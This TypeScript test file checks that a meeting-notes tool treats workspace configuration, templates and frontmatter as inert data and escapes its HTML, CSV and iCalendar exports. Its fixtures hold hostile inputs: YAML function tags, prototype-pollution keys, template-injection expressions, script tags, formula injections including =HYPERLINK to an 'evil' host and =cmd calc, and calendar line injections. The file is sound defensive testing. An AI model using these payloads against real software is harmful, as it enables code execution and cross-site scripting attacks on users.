// Untrusted workspaces: nothing from a workspace is executed or `require`d (configuration is YAML
// data, templates are text with placeholders), nothing pollutes prototypes, and every export
// escapes what its format requires (HTML with a strict CSP, iCalendar, CSV formula injection).
import { strict as assert } from 'node:assert';
import { spawnSync } from 'node:child_process';
import { existsSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import ICAL from 'ical.js';
import {
  buildMinutes,
  DEFAULT_CONFIG,
  lintMeeting,
  mergeConfig,
  MINUTES_CSP,
  parseConfig,
  parseMeeting,
  renderMinutesHtml,
  renderMinutesMarkdown,
  renderNewMeeting,
  RULE_IDS,
  teamTemplate,
  templateDefaults,
} from '../../src/core';
import { formatActions } from '../../src/cli/format-actions';
import { escapeText, fold, formatIcs } from '../../src/cli/format-ics';
import type { ActionRow } from '../../src/cli/rows';
import { meetings, repositoryRoot, workspaces } from './cli-support';

const workspace = workspaces('security');


/** Tripwires: code in the workspace that ran would set one of these. */
function assertNothingRan(): void {
  const global = globalThis as Record<string, unknown>;
  assert.equal(global.pwned, undefined, 'workspace code ran');
  assert.equal(({} as Record<string, unknown>).polluted, undefined, 'Object.prototype polluted');
  assert.equal(({} as Record<string, unknown>).attendees, undefined, 'Object.prototype polluted');
  assert.equal(Object.prototype.hasOwnProperty.call(Object.prototype, 'polluted'), false);
  assert.equal(([] as unknown as Record<string, unknown>).polluted, undefined, 'Array.prototype polluted');
}

const HOSTILE_CONFIG = `
__proto__: { polluted: 1 }
constructor: { prototype: { polluted: 1 } }
rules:
  __proto__: { polluted: 1 }
  constructor: error
  action-owner: !!js/function "function () { globalThis.pwned = 1; return 'error' }"
people:
  - name: 张三
    __proto__: { polluted: 1 }
    aliases: !!js/undefined ''
  - { name: !!js/regexp /x/, email: "a@b" }
sections:
  required:
    __proto__: [行动项]
    constructor: [行动项]
    weekly: [行动项]
  headings:
    __proto__: [evil]
    actions: [Todo]
meetings:
  include: ["**/*.md"]
newMeeting:
  template: "{{constructor.constructor('globalThis.pwned = 1')()}}"
  pathPattern: "{constructor}/{__proto__}.md"
`;

describe('security: workspace content is data, never code', () => {
  afterEach(assertNothingRan);

  it('reads a hostile .meetings.yaml as data: tags, __proto__ and constructor keys change no prototype', () => {
    const { layer, problems } = parseConfig(HOSTILE_CONFIG, '/ws', RULE_IDS);
    assertNothingRan();
    assert.ok(problems.length > 0, 'the hostile keys are reported');
    const config = mergeConfig([layer]);
    assert.equal(Object.getPrototypeOf(config.rules), Object.prototype);
    assert.equal(Object.getPrototypeOf(config.requiredSections), Object.prototype);
    assert.equal(typeof config.rules['action-owner'], 'undefined', 'a !!js/function value is not a severity');
    for (const type of ['constructor', '__proto__', 'toString', 'hasOwnProperty', 'weekly']) {
      const text = `---\ntitle: x\ndate: 2026-11-20\ntype: ${type}\nattendees: [张三]\n---\n\n## Todo\n- [ ] x @张三 📅 2026-12-01\n`;
      const meeting = parseMeeting(text, { config, path: '/ws/a.md' });
      const findings = lintMeeting(meeting, { config, today: '2026-11-25', locale: 'en', onRuleError: (rule, error) => assert.fail(`${rule} threw on type ${type}: ${String(error)}`) });
      assert.ok(Array.isArray(findings));
    }
  });

  it('reads JavaScript written as a config file as a YAML problem, not as code', () => {
    const js = "module.exports = (function () { globalThis.pwned = 1; require('child_process').execSync('touch PWNED'); })();\n";
    const { problems } = parseConfig(js, '/ws', RULE_IDS);
    assert.ok(problems.length > 0);
  });

  it('reads frontmatter with !!js tags, anchors to __proto__ and constructor keys as data', () => {
    const texts = [
      "---\ntitle: !!js/function 'function () { globalThis.pwned = 1 }'\ndate: 2026-11-20\nattendees: [a]\n---\n- [ ] x @a\n",
      '---\n__proto__: { attendees: [a], polluted: 1 }\ndate: 2026-11-20\n---\n- [ ] x @a\n',
      '---\nconstructor: x\ntoString: y\nvalueOf: [1]\nhasOwnProperty: z\ndate: 2026-11-20\nattendees: [a]\n---\n- [ ] x @a\n',
      '---\nbase: &b { polluted: 1 }\n__proto__: *b\nattendees: [a]\ndate: 2026-11-20\n---\n',
      '---\n<<: { __proto__: { polluted: 1 } }\nattendees: [a]\n---\n',
    ];
    for (const text of texts) {
      const meeting = parseMeeting(text);
      lintMeeting(meeting, { config: DEFAULT_CONFIG, today: '2026-11-25', locale: 'en', onRuleError: (rule, error) => assert.fail(`${rule}: ${String(error)}`) });
      assertNothingRan();
    }
    // `__proto__` is a key like any other: attendees inside it do not make a meeting file.
    assert.equal(parseMeeting(texts[1]!).meetingReason, null);
  });

  it('fills template placeholders by name only: expressions, constructor and __proto__ stay as written', () => {
    const hostile = [
      "{{constructor.constructor('globalThis.pwned = 1')()}}",
      '{{constructor}}',
      '{{__proto__}}',
      '{{toString}}',
      '{{ title.constructor }}',
      '${globalThis.pwned = 1}',
      '<%= globalThis.pwned = 1 %>',
    ];
    const text = `---\ntitle: "{{title}}"\ndate: {{date}}\nattendees: [{{attendees}}]\n---\n\n## 议程\n${hostile.map((line) => `- ${line}`).join('\n')}\n`;
    const template = teamTemplate('evil.md', text);
    templateDefaults(template);
    const result = renderNewMeeting({ template, locale: 'zh-CN', date: '2026-11-20', title: 'T', attendees: ['张三'] });
    for (const line of hostile) assert.ok(result.text.includes(line), `kept as written: ${line}\n${result.text}`);
    assert.ok(result.unknownPlaceholders.includes('{{constructor}}'));
    assert.ok(result.unknownPlaceholders.includes('{{toString}}'));
  });

  it('never requires or runs a workspace file: the CLI with a .meetings.yaml and templates full of code', () => {
    const dir = workspace({
      '.meetings.yaml': "rules: {}\n# require('child_process').execSync('touch PWNED')\nnewMeeting:\n  template: evil\n",
      '.meetings/templates/evil.md': "---\ntitle: {{constructor.constructor('require(\"fs\").writeFileSync(\"PWNED\", \"\")')()}}\ndate: {{date}}\nattendees: []\n---\n",
      'meeting.js': "require('fs').writeFileSync('PWNED', '')",
      '.meetings.js': "require('fs').writeFileSync('PWNED', '')",
      'meetings.config.js': "require('fs').writeFileSync('PWNED', '')",
      'a.md': '---\ndate: 2026-11-20\nattendees: [a]\n---\n## Actions\n- [ ] x @a 📅 2026-12-01\n',
    });
    const lint = meetings(dir, 'lint', '--today', '2026-11-25');
    assert.ok(lint.status === 0 || lint.status === 1, lint.stderr);
    const created = meetings(dir, 'new', '--date', '2026-11-27', '--stdout');
    assert.equal(created.status, 0, created.stderr);
    assert.ok(created.stdout.includes("constructor.constructor("), created.stdout);
    assert.equal(existsSync(join(dir, 'PWNED')), false, 'a workspace file was executed');
  });
});

describe('security: exports escape what their formats require', () => {
  const hostileMeeting = [
    '---',
    'title: "</title><script>alert(1)</script>"',
    'date: 2026-11-20',
    'attendees: ["\\"><img src=x onerror=alert(1)>", "张三"]',
    'facilitator: "\' onmouseover=\'alert(1)"',
    '---',
    '',
    '## 决议',
    '- <script>alert("decision")</script> 由 @张三 负责',
    '',
    '## 行动项',
    '- [ ] </style><script>alert(2)</script> @张三 📅 2026-12-01',
    '- [ ] <a href="javascript:alert(3)">click</a> & <!-- --> @张三',
    '- [ ] =HYPERLINK("http://evil/?"&A1,"x") @张三 📅 2026-12-02',
  ].join('\n');

  it('HTML minutes: every piece of workspace text is escaped and the CSP allows no script', () => {
    const meeting = parseMeeting(hostileMeeting);
    const html = renderMinutesHtml(buildMinutes(meeting, { key: 'evil.md', config: DEFAULT_CONFIG }));
    const body = html.replace(/<style>[^]*?<\/style>/u, '');
    assert.doesNotMatch(body, /<script/iu);
    assert.doesNotMatch(body, /<img/iu);
    assert.doesNotMatch(body, /<a[\s>]/iu);
    for (const tag of body.match(/<[A-Za-z][^>]*>/gu) ?? []) assert.doesNotMatch(tag, /\son\w+\s*=|javascript:/iu, `live attribute in ${tag}`);
    assert.ok(body.includes('&lt;script&gt;alert(1)&lt;/script&gt;'));
    assert.ok(body.includes('&quot;&gt;&lt;img'));
    assert.ok(body.includes('&#39; onmouseover=&#39;'));
    assert.equal((html.match(/<\/style>/gu) ?? []).length, 1, 'workspace text cannot close the stylesheet');
    // A strict CSP: nothing may load or run but the one stylesheet, pinned by its hash.
    assert.ok(html.includes(`<meta http-equiv="Content-Security-Policy" content="${MINUTES_CSP.replace(/'/gu, '&#39;')}">`));
    assert.match(MINUTES_CSP, /default-src 'none'/u);
    assert.match(MINUTES_CSP, /style-src 'sha256-[A-Za-z0-9+/=]+'/u);
    assert.doesNotMatch(MINUTES_CSP, /script-src|unsafe-inline|unsafe-eval|\*/u);
    // The Markdown minutes keep the text (it is the user's), the HTML is where it must not run.
    assert.ok(renderMinutesMarkdown(buildMinutes(meeting, { key: 'evil.md', config: DEFAULT_CONFIG })).length > 0);
  });

  const row = (text: string, extra: Partial<ActionRow> = {}): ActionRow => ({
    file: 'a.md',
    line: 1,
    text,
    owners: ['张三'],
    due: '2026-12-01',
    status: 'open',
    priority: null,
    meeting: { title: 'T', date: '2026-11-20', series: null, type: null },
    ...extra,
  });

  it('CSV: a cell starting with = + - @ tab or CR is neutralised, numbers stay numbers', () => {
    const starts = ['=1+2', '+1+2', '-1+2', '@SUM(A1)', '\t=1', '\r=1', '=HYPERLINK("http://evil")'];
    const rows = [
      ...starts.map((text) => row(text)),
      row('ok', { owners: ['=cmd|/C calc!A0'], meeting: { title: '@title', date: '2026-11-20', series: '+series', type: null } }),
      row('-3'),
    ];
    const csv = formatActions(rows, 'csv', { color: false, today: '2026-11-25', locale: 'en' });
    const records = csv.replace(/^\ufeff/u, '').split('\r\n');
    for (const record of records) {
      for (const cell of record.match(/"(?:[^"]|"")*"|[^,]+/gu) ?? []) {
        const value = cell.startsWith('"') ? cell.slice(1, -1).replace(/""/gu, '"') : cell;
        if (value === '-3') continue;
        assert.doesNotMatch(value, /^[=+\-@\t\r]/u, `live formula cell: ${JSON.stringify(value)}`);
      }
    }
    assert.ok(csv.includes(`"'=HYPERLINK(""http://evil"")"`));
    assert.ok(csv.includes("'=cmd|/C calc!A0"));
    assert.ok(csv.includes(',-3,'));
  });

  it('ICS: , ; \\ and line breaks escaped, control characters dropped, lines folded at 75 octets', () => {
    assert.equal(escapeText('a,b;c\\d\ne\r\nf\rg'), 'a\\,b\\;c\\\\d\\ne\\nf\\ng');
    assert.equal(escapeText('x\u0000\u0007y'), 'xy');
    const long = `SUMMARY:${escapeText('复盘双十一活动数据，'.repeat(20))}`;
    for (const line of fold(long).split('\r\n')) assert.ok(Buffer.byteLength(line, 'utf8') <= 75, line);
    const hostile = row('x\r\nEND:VTODO\r\nBEGIN:VEVENT\r\nSUMMARY:injected;,\\', { owners: ['a"b\r\nX-EVIL:1'], ownerEmails: ['evil@example.com\r\nX-EVIL:1'] });
    const ics = formatIcs([hostile], { now: new Date('2026-11-25T00:00:00Z'), events: false, locale: 'en' });
    const lines = ics.split('\r\n');
    for (const line of lines) {
      assert.ok(Buffer.byteLength(line, 'utf8') <= 75, `line over 75 octets: ${line}`);
      assert.doesNotMatch(line, /^(?:BEGIN:VEVENT|X-EVIL|SUMMARY:injected)/u, `injected line: ${line}`);
    }
    assert.equal(lines.filter((line) => line === 'END:VTODO').length, 1);
    const calendar = new ICAL.Component(ICAL.parse(ics));
    assert.equal(calendar.getAllSubcomponents('vtodo').length, 1);
    assert.equal(calendar.getAllSubcomponents('vevent').length, 0);
  });
});

describe('security: the extension bundle reads configuration as data', () => {
  it('has no eval or new Function of its own, and loads no module by a computed path', () => {
    const root = repositoryRoot();
    // The sources (not the bundle: dependencies are not ours to judge) never evaluate text.
    const sources = spawnSync(process.execPath, ['-e', `
      const fs = require('fs'), path = require('path');
      const out = [];
      const walk = (dir) => { for (const name of fs.readdirSync(dir)) { const p = path.join(dir, name); if (fs.statSync(p).isDirectory()) walk(p); else if (p.endsWith('.ts')) out.push([p, fs.readFileSync(p, 'utf8')]); } };
      walk(path.join(${JSON.stringify(root)}, 'src'));
      const bad = out.filter(([, text]) => /\\beval\\s*\\(|new\\s+Function\\s*\\(|\\brequire\\s*\\((?!\\s*['"])|\\bimport\\s*\\((?!\\s*['"])|vm\\.run|runInNewContext/.test(text)).map(([p]) => p);
      process.stdout.write(JSON.stringify(bad));
    `], { encoding: 'utf8' });
    assert.deepEqual(JSON.parse(sources.stdout), []);
    assert.ok(readFileSync(join(root, 'dist', 'extension.cjs'), 'utf8').length > 0);
  });
});
